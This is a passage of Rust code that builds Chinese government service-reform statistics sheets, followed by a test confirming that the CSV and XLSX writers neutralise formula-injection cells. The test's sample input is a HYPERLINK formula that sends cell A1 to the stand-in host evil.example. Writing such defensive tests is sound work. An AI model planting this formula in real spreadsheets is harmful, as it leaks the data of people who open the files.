                sheet: sheet(&kind_headers, by_kind),
            },
            Report {
                key: "by_disposition",
                title: "改革处置情况统计",
                sheet: sheet(&disp_headers, by_disp),
            },
            Report {
                key: "service_depth",
                title: "全程网办与最多跑一次情况",
                sheet: sheet(
                    &[
                        "部门",
                        "事项数",
                        "全程网办",
                        "全程网办占比",
                        "零跑动",
                        "最多跑一次",
                        "最多跑一次占比",
                    ],
                    depth,
                ),
            },
            Report {
                key: "compression",
                title: "承诺时限压缩情况",
                sheet: sheet(
                    &[
                        "部门",
                        "有法定时限事项数",
                        "法定时限合计（工作日）",
                        "承诺时限合计（工作日）",
                        "压缩比",
                        "即办件数",
                    ],
                    comp,
                ),
            },
        ])
    }
}

#[cfg(test)]
mod tests {
    use super::{to_xlsx, Sheet};

    /// Every text cell of the first worksheet, as stored (before any reader undoes the guard).
    fn raw_xlsx_cells(bytes: &[u8]) -> Vec<String> {
        use calamine::Reader;
        let mut wb: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        let name = wb.sheet_names()[0].clone();
        let range = wb.worksheet_range(&name).unwrap();
        range.rows().flatten().map(ToString::to_string).collect()
    }

    #[test]
    fn finding_8_both_sheet_writers_guard_every_leading_character_and_read_back_unchanged() {
        for lead in ['=', '+', '-', '@', '\t', '\r'] {
            let evil = format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
            let sheet = Sheet {
                headers: vec!["名称".to_owned(), "数量".to_owned()],
                rows: vec![(2, vec![evil.clone(), "-5".to_owned()])],
            };
            let csv_text = sheet.to_csv();
            let mut rdr = csv::Reader::from_reader(csv_text.as_bytes());
            let written: Vec<String> = rdr
                .records()
                .next()
                .unwrap()
                .unwrap()
                .iter()
                .map(str::to_owned)
                .collect();
            assert_eq!(written, [format!("'{evil}"), "-5".to_owned()], "{lead:?}");
            // The reader trims cells, so a leading tab or CR is only kept inside the guard.
            let back = Sheet::from_csv(&csv_text).unwrap();
            assert_eq!(back.rows[0].1, [evil.clone(), "-5".to_owned()], "{lead:?}");

            let xlsx = to_xlsx(&[("事项", &sheet)]).unwrap();
            let cells = raw_xlsx_cells(&xlsx);
            assert!(cells.contains(&format!("'{evil}")), "{lead:?}: {cells:?}");
            assert!(cells.contains(&"-5".to_owned()), "{cells:?}");
            let back = Sheet::from_xlsx(&xlsx, "事项").unwrap();
            assert_eq!(back.rows[0].1, [evil, "-5".to_owned()], "{lead:?}");
        }
    }
}
